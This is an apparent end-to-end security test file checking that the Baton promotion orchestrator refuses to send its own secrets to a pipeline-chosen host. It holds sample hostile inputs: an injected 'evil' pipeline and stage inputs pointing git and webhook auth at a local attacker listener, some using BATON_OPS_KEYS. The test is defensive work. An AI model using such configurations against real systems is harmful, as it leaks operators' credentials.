// Issue 10 point 1: the pipelines file cannot send Baton's secrets to a server of its author's
// choice. Through the real runtime: a file naming BATON_OPS_KEYS as a git password is refused at
// load (no promotion starts), and a stage handed over as if pinned, or started by hand, is
// refused where the secret would be sent. The attacker's listener receives nothing.
import { beforeAll, describe, expect, it } from "vitest";
import { EventType } from "../../local/durable/history.js";
import type { TestHost } from "../../local/testing.js";
import { promotionInstanceId } from "../../shared/ingest/intake/instanceId.js";
import { ORCHESTRATOR } from "../../shared/durable/names.js";
import type { GitServer } from "../support/gitServer.js";
import { digestOf, gitLog, OPS_KEY, pushImage, useBatonWorld } from "../e2e/world.js";
import { handStartedStage, useRecorder } from "./recorder.js";

const attacker = useRecorder();
const CANARY = "canary-pipeline-git-password-5b1e";

const world = useBatonWorld({
  tablePrefix: "secp01",
  // Only 127.0.0.1 is listed: `localhost` names the same listener but is not allowed.
  env: () => ({ BATON_ALLOWED_HOSTS: "127.0.0.1", BATON_PIPELINE_SECRETS: "E2E_*", E2E_GIT_PASSWORD: CANARY }),
  rewrite: (yaml) =>
    `${yaml}  - name: evil
    source: { image: myacr.azurecr.io/evil }
    git: { url: "http://127.0.0.1:${attacker().port}/evil.git", auth: { kind: basic, username: x, passwordSecret: BATON_OPS_KEYS } }
    stages:
      - name: dev
        edits: [{ file: apps/evil.yaml, target: { kind: kustomize } }]
        readiness: { objects: [{ cluster: aks-dev, kind: Kustomization, namespace: flux-system, name: evil }] }
`,
});
let host: TestHost;
let server: GitServer;
beforeAll(() => {
  ({ host, server } = world());
});

function leaked(): string[] {
  const text = attacker().text();
  const basic = (user: string, password: string) => Buffer.from(`${user}:${password}`).toString("base64");
  return [OPS_KEY, CANARY, basic("x", `e2e=${OPS_KEY}`), basic("x", CANARY), "E2E_GIT_PASSWORD"].filter((s) => text.includes(s));
}

describe("a pipelines file naming Baton's own secret", () => {
  it("is refused at load: the push starts no promotion and nothing reaches the attacker", async () => {
    const commitsBefore = await gitLog(server);
    const digest = digestOf(0x5ec1);
    const res = await pushImage(host, "1.0.1", digest, "2026-03-01T00:00:00Z");
    // Event Grid gets 202: with the file invalid the delivery is kept (issue 9 point 6), never promoted under it.
    expect(res.status).toBe(202);
    await host.settle();
    await expect(host.status(promotionInstanceId("orders-api", digest))).rejects.toThrow(/No instance/);
    await expect(host.status(promotionInstanceId("evil", digest))).rejects.toThrow(/No instance/);
    expect(await gitLog(server)).toEqual(commitsBefore);
    expect(attacker().received).toEqual([]);
  });
});

describe("a stage started by hand (or pinned before the settings changed)", () => {
  it("does not read Baton's own secret, so nothing is sent", async () => {
    const input = handStartedStage("promo-evil-ops", {
      repository: { provider: "git", url: `http://127.0.0.1:${attacker().port}/evil.git`, branch: "main", auth: { kind: "basic", username: "x", passwordSecret: "BATON_OPS_KEYS" } },
    });
    const id = await host.startOrchestration(ORCHESTRATOR.stage, input, "promo-evil-ops--dev");
    await host.advanceThroughTimers(2 * 3600_000);
    expect(leaked()).toEqual([]);
    expect(attacker().received).toEqual([]);
    // The stage fails at once, and says why: the refusal is a domain outcome of the commit step,
    // not a thrown error, so the activity's transient retries never run it again.
    const status = await host.status(id);
    expect(status.output).toMatchObject({ outcome: "failed", reason: expect.stringContaining("secret BATON_OPS_KEYS is one of Baton's own") as unknown });
    const history = host.history(id);
    expect(history.filter((e) => e.EventType === EventType.TaskScheduled && e.Name === "commitStage")).toHaveLength(1);
    expect(history.filter((e) => e.EventType === EventType.TaskFailed)).toEqual([]);
  });

  it("does not send even an allowed secret to a host outside BATON_ALLOWED_HOSTS", async () => {
    const input = handStartedStage("promo-evil-host", {
      repository: { provider: "git", url: `http://localhost:${attacker().port}/evil.git`, branch: "main", auth: { kind: "basic", username: "x", passwordSecret: "E2E_GIT_PASSWORD" } },
    });
    await host.startOrchestration(ORCHESTRATOR.stage, input, "promo-evil-host--dev");
    await host.advanceThroughTimers(2 * 3600_000);
    expect(leaked()).toEqual([]);
    expect(attacker().received).toEqual([]);
  });

  it("does not sign a Receiver nudge with Baton's own secret", async () => {
    const input = handStartedStage("promo-evil-nudge", {
      repository: { provider: "git", url: world().server.url("gitops"), branch: "main", auth: { kind: "none" } },
      readiness: {
        objects: [{ cluster: "aks-dev", kind: "Kustomization", namespace: "flux-system", name: "orders-api-dev" }],
        timeoutMs: 60_000,
        receiver: { url: `http://127.0.0.1:${attacker().port}/hook`, tokenSecret: "FLUX_WEBHOOK_TOKEN" },
      },
    });
    await host.startOrchestration(ORCHESTRATOR.stage, input, "promo-evil-nudge--dev");
    await host.advanceThroughTimers(2 * 3600_000);
    // The commit may happen (the repository is allowed); the signed nudge must not.
    expect(attacker().received.filter((r) => r.headers["x-signature"] !== undefined)).toEqual([]);
  });
});
